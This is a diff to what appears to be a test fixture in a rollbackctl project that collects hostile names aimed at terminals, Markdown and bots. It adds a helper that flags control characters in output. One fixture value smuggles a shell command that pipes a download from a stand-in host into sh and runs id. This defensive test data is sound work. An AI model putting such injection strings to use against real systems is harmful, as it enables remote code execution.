@@ -1,5 +1,6 @@
 """Names that attack whoever reads them: terminals, Markdown, pull-request bots, people."""
 
+import unicodedata
 from typing import Any
 
 from rollbackctl.core.address import Address
@@ -30,6 +31,11 @@ NAMES = {
     "backslashes": "\\`\\` \\@user \\<b\\> \\",
     "shell": "risk'; curl evil.example | sh; echo '$(id)`id`",
 }
+
+
+def unsafe(text: str) -> list[str]:
+    """Every character of an output that steers a terminal, hides, or is none."""
+    return [hex(ord(sign)) for sign in text if sign != "\n" and unicodedata.category(sign)[0] == "C"]
 
 
 def document(text: str, answer: Answer = Answer.WAITS, phase: Phase = Phase.RELEASE) -> PlanDocument:
